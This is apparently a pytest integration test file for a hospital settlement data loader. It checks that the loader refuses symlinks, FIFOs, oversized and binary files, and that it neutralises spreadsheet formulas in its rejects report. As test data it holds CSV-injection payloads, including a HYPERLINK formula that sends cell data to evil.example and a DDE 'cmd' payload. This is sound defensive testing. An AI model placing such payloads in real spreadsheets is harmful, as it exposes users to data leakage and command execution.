"""Export files as a hostile hospital or a careless operator leaves them: links to other files,
FIFOs, devices and directories under an export's name, a link planted where the rejects report
goes, cells a spreadsheet would evaluate, a 10 MB cell, spreadsheets under the wrong suffix and
binary files. Each is run through real ``settlement-loader`` processes against a real Redis."""

from __future__ import annotations

import csv
import os
import signal
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import orjson
import pytest

from loader.reading import MAX_FILE_BYTES
from tests.conftest import free_port
from tests.exports import (
    HEADERS,
    institution_row,
    load_into,
    staff_row,
    write_csv,
    write_ods,
    write_xls,
    write_xlsx,
)
from tests.integration.test_loader_cli import loader, scrape, start_watch, wait_for

GOOD = [staff_row(code=f"D330902{i:06d}") for i in range(40)]
# The code of the one row in files that must never be read; were it read, it would publish.
SECRET = "D330902999999"


@pytest.fixture
def env(redis_url: str, tmp_path: Path) -> dict[str, str]:
    """The loader's environment, with institutions already live: each test loads one staff file,
    and a version needs both kinds."""
    live = tmp_path / "live"
    live.mkdir()
    load_into(redis_url, live, "institution", [institution_row()])
    base = {k: v for k, v in os.environ.items() if not k.startswith("SGW_")}
    return {**base, "SGW_REDIS_URL": redis_url, "SGW_STATE_DIR": str(tmp_path / "state")}


def report_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))[1:]


# -- links and special files ----------------------------------------------------------------


def test_sync_refuses_a_link_and_never_reads_its_target(env: dict[str, str], tmp_path: Path) -> None:
    target = write_csv(tmp_path / "elsewhere.csv", HEADERS["staff"], [staff_row(code=SECRET)])
    link = tmp_path / "passwd.csv"
    link.symlink_to(target)
    refused = loader("sync", str(link), env=env)
    assert refused.returncode == 4, refused.stdout + refused.stderr
    assert "symbolic link" in refused.stdout
    assert SECRET not in refused.stdout + refused.stderr
    status = orjson.loads(loader("status", "--json", env=env).stdout)
    assert [Path(s["path"]).name for s in status["sources"]] == ["institution.csv"]  # nothing new


def test_sync_refuses_fifos_devices_and_directories(env: dict[str, str], tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    directory = tmp_path / "folder.csv"
    directory.mkdir()
    for path, what in ((fifo, "a FIFO"), (directory, "a directory"), (Path("/dev/null"), "a device")):
        refused = loader("sync", str(path), env=env)
        assert refused.returncode == 4, (path, refused.stdout, refused.stderr)
        assert what in refused.stdout and "not a regular file" in refused.stdout


def test_watch_refuses_links_and_special_files_and_writes_through_no_link(
    env: dict[str, str], tmp_path: Path
) -> None:
    inbox, outside = tmp_path / "inbox", tmp_path / "outside"
    inbox.mkdir()
    outside.mkdir()
    victim = outside / "victim.txt"
    victim.write_text("an operator's notes\n", "utf-8")
    (inbox / "passwd.csv").symlink_to(
        write_csv(outside / "e.csv", HEADERS["staff"], [staff_row(code=SECRET)])
    )
    os.mkfifo(inbox / "pipe.csv")
    (inbox / "folder.csv").mkdir()
    write_csv(inbox / "x.csv", HEADERS["staff"], [*GOOD, staff_row(code="bad")])
    (inbox / "x.csv.rejects.csv").symlink_to(victim)  # planted where x.csv's report goes
    write_csv(inbox / "y.csv", HEADERS["staff"], GOOD[:30])
    port = free_port()
    proc = start_watch(env, inbox, port)
    try:
        wait_for(lambda: scrape(port).get('sgw_loader_files_total{outcome="published"}') == 1)
        assert scrape(port)['sgw_loader_files_total{outcome="refused"}'] == 4  # y.csv landed last
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=20) == 0
    finally:
        proc.kill()
    assert proc.stderr is not None
    log = proc.stderr.read()
    assert victim.read_text("utf-8") == "an operator's notes\n"
    assert (inbox / "x.csv.rejects.csv").is_symlink()  # left as it was found
    refused = {p.name.split("_", 1)[1]: p for p in (inbox / "refused").iterdir()}
    assert set(refused) == {"passwd.csv", "pipe.csv", "folder.csv", "x.csv"}
    assert refused["passwd.csv"].is_symlink() and refused["folder.csv"].is_dir()
    assert SECRET not in log and "symbolic link" in log and "not a previous report" in log
    status = orjson.loads(loader("status", "--json", env=env).stdout)
    assert [Path(s["path"]).name for s in status["sources"]] == ["institution.csv", "y.csv"]


@pytest.mark.parametrize("planted", [".settlement-loader-watch.lock", "refused"])
def test_watch_will_not_keep_its_own_files_through_a_link(
    env: dict[str, str], tmp_path: Path, planted: str
) -> None:
    inbox, outside = tmp_path / "inbox", tmp_path / "outside"
    inbox.mkdir()
    outside.mkdir()
    victim = outside / "victim.txt"
    victim.write_text("an operator's notes\n", "utf-8")
    (inbox / planted).symlink_to(victim if planted.endswith(".lock") else outside)
    proc = start_watch(env, inbox, free_port())
    try:
        assert proc.wait(timeout=30) == 2
    finally:
        proc.kill()
    assert proc.stderr is not None and planted in proc.stderr.read()
    assert victim.read_text("utf-8") == "an operator's notes\n"


# -- the rejects report ---------------------------------------------------------------------


def test_report_cells_a_spreadsheet_would_evaluate_are_neutralised(
    env: dict[str, str], tmp_path: Path
) -> None:
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    path = write_csv(tmp_path / "s.csv", HEADERS["staff"], [*GOOD, *(staff_row(code=f) for f in formulas)])
    assert loader("sync", str(path), env=env).returncode == 3
    values = [row[4] for row in report_rows(tmp_path / "s.csv.rejects.csv")]
    assert values == ["'" + f for f in formulas]


def test_a_report_replaces_only_a_previous_report(env: dict[str, str], tmp_path: Path) -> None:
    path = write_csv(tmp_path / "s.csv", HEADERS["staff"], [*GOOD, staff_row(code="bad")])
    notes = tmp_path / "notes.csv"
    notes.write_text("my,own\nnotes,here\n", "utf-8")
    refused = loader("sync", str(path), "--report", str(notes), env=env)
    assert refused.returncode == 4 and "not a previous report" in refused.stdout
    assert notes.read_text("utf-8") == "my,own\nnotes,here\n"

    assert loader("sync", str(path), env=env).returncode == 3
    write_csv(path, HEADERS["staff"], [*GOOD, staff_row(code="bad"), staff_row(code="worse")])
    assert loader("sync", str(path), env=env).returncode == 3  # the previous report is replaced
    assert [row[4] for row in report_rows(tmp_path / "s.csv.rejects.csv")] == ["bad", "worse"]

    kept = tmp_path / "kept.txt"
    kept.write_text("keep me\n", "utf-8")
    hard = write_csv(tmp_path / "h.csv", HEADERS["staff"], [*GOOD, staff_row(code="bad")])
    os.link(kept, tmp_path / "h.csv.rejects.csv")  # another name for another file
    assert loader("sync", str(hard), env=env).returncode == 4
    clean = write_csv(tmp_path / "c.csv", HEADERS["staff"], GOOD)
    os.link(kept, tmp_path / "c.csv.rejects.csv")
    assert loader("sync", str(clean), env=env).returncode == 0  # a clean load removes no stranger
    assert (tmp_path / "c.csv.rejects.csv").exists() and kept.read_text("utf-8") == "keep me\n"


# -- oversized input ------------------------------------------------------------------------


def test_an_oversized_cell_rejects_its_row_not_the_file(env: dict[str, str], tmp_path: Path) -> None:
    giant = staff_row(code=SECRET, name="x" * 10_000_000)
    long_department = staff_row(code="D330902888888", department="A" * 1000)
    rows = [*GOOD[:10], giant, *GOOD[10:20], long_department, *GOOD[20:]]
    result = loader("sync", str(write_csv(tmp_path / "s.csv", HEADERS["staff"], rows)), "--json", env=env)
    assert result.returncode == 3, result.stdout + result.stderr
    doc = orjson.loads(result.stdout)
    assert (doc["accepted"], doc["rejected"]) == (40, 2)
    report = tmp_path / "s.csv.rejects.csv"
    (line, column, reason), (line2, column2, _) = [row[1:4] for row in report_rows(report)]
    assert (line, column, line2, column2) == ("12", "(整行)", "23", "科室编码")
    assert "读取上限" in reason  # the line is over the loader's cap: read in pieces, not held
    assert report.stat().st_size < 10_000  # the report quotes a bad value, not all of it


def test_a_file_over_the_byte_cap_is_refused_unread(env: dict[str, str], tmp_path: Path) -> None:
    path = write_csv(tmp_path / "huge.csv", HEADERS["staff"], GOOD)
    with path.open("r+b") as fh:
        fh.truncate(MAX_FILE_BYTES + 1)  # sparse: no disk used
    refused = loader("sync", str(path), env=env)
    assert refused.returncode == 4 and f"cap of {MAX_FILE_BYTES:,} bytes" in refused.stdout


# -- the kind of a file is in its bytes -----------------------------------------------------

Writer = Callable[[Path, Sequence[str], Sequence[Sequence[str]]], Path]


@pytest.mark.parametrize(
    ("writer", "name", "fmt"),
    [
        (write_xlsx, "staff.xls", "xlsx"),  # an XLSX renamed .xls, as the issue found it
        (write_xlsx, "staff.csv", "xlsx"),
        (write_xls, "staff.xls", "xls"),
        (write_ods, "staff.ods", "ods"),
        (write_csv, "staff.xlsx", "csv"),
    ],
)
def test_the_file_kind_comes_from_its_bytes(
    env: dict[str, str], tmp_path: Path, writer: Writer, name: str, fmt: str
) -> None:
    path = writer(tmp_path / name, HEADERS["staff"], [*GOOD, staff_row(code="bad")])
    result = loader("sync", str(path), "--json", env=env)
    assert result.returncode == 3, result.stdout + result.stderr
    doc = orjson.loads(result.stdout)
    assert (doc["format"], doc["accepted"], doc["rejected"]) == (fmt, 40, 1)


def _zip_of_text(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("staff.csv", ",".join(HEADERS["staff"]))
    return path


BINARIES = {
    "png": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64, "a PNG image"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 64, "a PDF document"),
    "noise": (bytes((i * 97 + 13) % 256 for i in range(40_000)), "binary"),
    "utf16-no-bom": (",".join(HEADERS["staff"]).encode("utf-16-le") * 20, "binary"),
}


@pytest.mark.parametrize("name", [*BINARIES, "zip"])
def test_binary_files_are_refused_without_printing_their_bytes(
    env: dict[str, str], tmp_path: Path, name: str
) -> None:
    if name == "zip":
        path, what = _zip_of_text(tmp_path / "staff.xlsx"), "a ZIP archive"
    else:
        data, what = BINARIES[name]
        path = tmp_path / "staff.csv"
        path.write_bytes(data)
    refused = loader("sync", str(path), env=env)
    assert refused.returncode == 4, refused.stdout + refused.stderr
    assert what in refused.stdout
    printed = refused.stdout + refused.stderr
    assert all(ch.isprintable() or ch == "\n" for ch in printed), printed
    assert "\ufffd" not in printed
